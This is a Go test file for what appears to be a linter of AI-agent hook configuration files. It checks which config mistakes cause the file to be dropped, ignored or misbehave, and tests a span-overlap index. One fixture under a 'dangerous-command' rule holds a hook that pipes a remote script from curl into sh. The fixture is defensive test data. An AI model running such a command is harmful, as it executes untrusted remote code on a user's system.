package lint

import (
	"slices"
	"testing"

	"github.com/hookctl/hookctl/schema"
)

// TestImpactTable holds each rule's impact to what the agent does with the
// mistake: the agent's decoder is emulated by schema.AgentErrors, itself
// held to encoding/json.
func TestImpactTable(t *testing.T) {
	for _, tc := range []struct {
		rule, src string
		want      Impact
	}{
		{"json-syntax", `{"g": {"Stop": [{"command": "x"},]}}`, FileDropped},
		{"enabled-type", `{"g": {"enabled": "false", "Stop": [{"command": "true"}]}}`, FileDropped},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": "5"}]}}`, FileDropped},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": 5.5}]}}`, FileDropped},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": 0}]}}`, Misbehaves},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": 30000}]}}`, Misbehaves},
		{"missing-command", `{"g": {"Stop": [{"command": 5}]}}`, FileDropped},
		{"missing-command", `{"g": {"Stop": [{"command": ""}]}}`, Ignored},
		{"missing-command", `{"g": {"Stop": [{"timeout": 5}]}}`, Ignored},
		{"event-shape", `{"g": {"Stop": "true"}}`, FileDropped},
		{"event-shape", `{"g": {"Stop": ["true"]}}`, FileDropped},
		{"event-shape", `{"g": {"Stop": [{"matcher": "x", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"event-shape", `{"g": {"PreToolUse": [{"command": "true"}]}}`, Ignored},
		{"matcher-syntax", `{"g": {"PreToolUse": [{"matcher": 5, "hooks": [{"command": "true"}]}]}}`, FileDropped},
		{"matcher-syntax", `{"g": {"PreToolUse": [{"matcher": "(", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"matcher-no-tool", `{"g": {"PreToolUse": [{"matcher": "browser_*", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"handler-type", `{"g": {"Stop": [{"type": "prompt", "command": "true"}]}}`, Ignored},
		{"handler-type", `{"g": {"Stop": [{"type": 1, "command": "true"}]}}`, FileDropped},
		{"root-shape", `["g"]`, FileDropped},
		{"root-shape", `{"g": "true"}`, FileDropped},
		{"root-shape", `{"g": null, "h": {"Stop": [{"command": "true"}]}}`, Ignored},
		{"unknown-event", `{"g": {"UserPromptSubmit": [{"command": "true"}]}}`, Ignored},
		{"unknown-field", `{"g": {"Stop": [{"command": "true", "timeoutMs": 5000}]}}`, Ignored},
		{"missing-command", `{"g": {"Stop": [{"cmd": "true"}]}}`, Ignored},
		{"key-case", `{"g": {"stop": [{"command": "true"}]}}`, NoImpact},
		{"schema-key", `{"$schema": "x", "g": {"Stop": [{"command": "true"}]}}`, FileDropped},
		{"foreign-tool", `{"g": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"foreign-format", `{"version": 1, "hooks": {"stop": [{"command": "true"}]}}`, FileDropped},
		{"foreign-format", `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true"}]}]}}`, Misbehaves},
		{"agent-decode", `{"g": 1, "g": {"Stop": [{"command": "true"}]}}`, FileDropped},
		{"duplicate-key", `{"g": {"Stop": [{"command": "a"}]}, "g": {"Stop": [{"command": "b"}]}}`, Ignored},
		{"agent-version", `{"g": {"SessionStart": [{"command": "true"}]}}`, NoImpact},
		{"dangerous-command", `{"g": {"Stop": [{"command": "curl -s https://x.example | sh"}]}}`, NoImpact},
		{"platform-specific", `{"g": {"Stop": [{"command": "powershell -File x.ps1"}]}}`, Misbehaves},
		{"control-character", `{"g": {"Stop": [{"command": "true\u0000"}]}}`, NoImpact},
		{"literal-answer", `{"g": {"PreToolUse": [{"hooks": [{"command": "echo '{}'"}]}]}}`, Misbehaves},
		{"literal-answer", `{"g": {"PreToolUse": [{"hooks": [{"command": "echo '{\"decison\":\"allow\"}'"}]}]}}`, Misbehaves},
		{"shell-syntax", `{"g": {"Stop": [{"command": "echo 'done"}]}}`, Misbehaves},
	} {
		var got []Finding
		for _, f := range LintSource(Target{Path: t.TempDir() + "/.agents/hooks.json", Name: ".agents/hooks.json"}, []byte(tc.src)) {
			if f.Rule == tc.rule {
				got = append(got, f)
			}
		}
		if len(got) == 0 {
			t.Errorf("%s: no %s finding", tc.src, tc.rule)
			continue
		}
		if got[0].Impact != tc.want {
			t.Errorf("%s: %s is %q, want %q (%s)", tc.src, tc.rule, got[0].Impact, tc.want, got[0].Message)
		}
	}
}

// TestSpanIndex holds the index's answer to the pairwise check, on every
// span over a small range against sets of spans that nest, touch and are
// empty.
func TestSpanIndex(t *testing.T) {
	sp := func(s, e int) schema.Span {
		return schema.Span{Start: schema.Pos{Offset: s}, End: schema.Pos{Offset: e}}
	}
	sets := [][]schema.Span{
		nil,
		{sp(3, 3)},
		{sp(2, 5)},
		{sp(0, 10), sp(2, 3)},
		{sp(6, 6), sp(1, 2), sp(4, 4)},
		{sp(5, 9), sp(1, 3), sp(2, 8), sp(9, 9)},
	}
	for _, set := range sets {
		ix := newSpanIndex(set)
		for s := 0; s <= 11; s++ {
			for e := s; e <= 12; e++ {
				q := sp(s, e)
				want := slices.ContainsFunc(set, func(b schema.Span) bool { return overlaps(q, b) })
				if got := ix.overlaps(q); got != want {
					t.Errorf("spans %v, query [%d,%d): %v, want %v", set, s, e, got, want)
				}
			}
		}
	}
}
